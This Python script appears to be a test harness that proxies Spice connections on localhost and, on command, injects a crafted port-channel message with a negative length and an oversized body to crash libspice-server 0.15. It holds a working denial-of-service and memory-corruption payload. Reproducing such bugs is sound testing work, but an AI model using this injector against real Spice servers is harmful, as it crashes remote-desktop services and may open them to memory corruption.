#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""Stands between a Spice client and its server and, when asked, lets the client's
port channel say what libspice-server 0.15 dies of: a message whose length is
negative as an int, and as many bytes as overrun what was allocated for it.

usage: spiceproxy.py PORT SERVER-PORT [CERT KEY CA]

Listens on 127.0.0.1:PORT. With three PEM files it ends TLS on both sides. Takes
commands on standard input, a line each, and answers on standard output:
"inject": the message, on one port channel, at a boundary of messages; "injected"
when it has been sent.
"""
import os
import select
import socket
import ssl
import struct
import sys
import threading

DATA, PORT_CHANNEL = 101, 10
HOSTILE = struct.pack("<HI", DATA, 0xfffffff0) + b"\xee" * 200000
BUFFER_MAX = 1 << 20


class Messages:
    """Where the messages of a client begin and end, as it links and afterwards."""

    def __init__(self):
        self.left, self.state, self.head = 16, "link", b""
        self.channel = None

    def feed(self, data):
        """Takes some of data, up to the next boundary; returns how much."""
        n = min(self.left, len(data))
        self.left -= n
        if self.state in ("link", "mess", "header"):
            self.head += data[:n]
        if not self.left:
            self.next()
        return n

    def next(self):
        head, self.head = self.head, b""
        if self.state == "link":
            self.state, self.left = "mess", struct.unpack_from("<I", head, 12)[0]
        elif self.state == "mess":
            self.channel = head[4]
            self.state, self.left = "auth", 4 + 128	# mechanism and ticket
        elif self.state == "header" and struct.unpack_from("<I", head, 2)[0]:
            self.state, self.left = "body", struct.unpack_from("<I", head, 2)[0]
        else:
            self.state, self.left = "header", 6

    def at_boundary(self):
        return self.state == "header" and self.left == 6


class Half:
    def __init__(self, src, dst):
        self.src, self.dst, self.out, self.ended = src, dst, bytearray(), False

    def read(self):
        """Returns new bytes; sets ended."""
        got = b""
        while len(got) < 65536:
            try:
                part = self.src.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            except OSError:
                part = b""
            if not part:
                self.ended = True
                break
            got += part
        return got

    def write(self):
        while self.out:
            try:
                n = self.dst.send(self.out[:65536])
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except OSError:
                self.ended = True
                return
            del self.out[:n]


class Proxy:
    def __init__(self, port, server_port, pem):
        self.server = ("127.0.0.1", server_port)
        self.pem = pem
        self.listener = socket.create_server(("127.0.0.1", port))
        self.armed = threading.Event()
        self.lock = threading.Lock()

    def wrap(self, client, server):
        cert, key, ca = self.pem
        ours = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ours.load_cert_chain(cert, key)
        theirs = ssl.create_default_context(cafile=ca)
        theirs.check_hostname = False
        return (ours.wrap_socket(client, server_side=True), theirs.wrap_socket(server))

    def serve(self, client):
        try:
            server = socket.create_connection(self.server)
            client.settimeout(60)
            server.settimeout(60)
            if self.pem:
                client, server = self.wrap(client, server)
            self.pump(client, server)
        except OSError:
            pass
        finally:
            client.close()

    def maybe_inject(self, out, messages):
        if messages.channel != PORT_CHANNEL or not messages.at_boundary():
            return False
        with self.lock:
            if not self.armed.is_set():
                return False
            self.armed.clear()
        out += HOSTILE
        return True

    def pump(self, client, server):
        for s in (client, server):
            s.setblocking(False)
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        up, down = Half(client, server), Half(server, client)
        messages, hostile = Messages(), False
        while not (up.ended or down.ended):
            r = [h.src for h in (up, down) if len(h.out) < BUFFER_MAX]
            w = [h.dst for h in (up, down) if h.out]
            pending = self.pem and any(s.pending() for s in r)
            # What arms it comes from another thread: looked at 20 times a second.
            select.select(r, w, [], 0 if pending else 0.05)
            if client in r:
                data = up.read()
                while data and not hostile:
                    n = messages.feed(data)
                    up.out += data[:n]
                    data = data[n:]
                    hostile = self.maybe_inject(up.out, messages)
            if not hostile:
                hostile = self.maybe_inject(up.out, messages)
            if server in r:
                down.out += down.read()
            up.write()
            down.write()
            # The server may not live to take all of it.
            if hostile is True and (up.ended or not up.out):
                print("injected", flush=True)
                hostile = "told"
        server.close()

    def accept(self):
        while True:
            client, _ = self.listener.accept()
            threading.Thread(target=self.serve, args=(client,), daemon=True).start()


def main():
    proxy = Proxy(int(sys.argv[1]), int(sys.argv[2]), sys.argv[3:6])
    threading.Thread(target=proxy.accept, daemon=True).start()
    print("ready", proxy.listener.getsockname()[1], flush=True)
    for line in sys.stdin:
        if line.strip() == "inject":
            proxy.armed.set()
    os._exit(0)


if __name__ == "__main__":
    main()
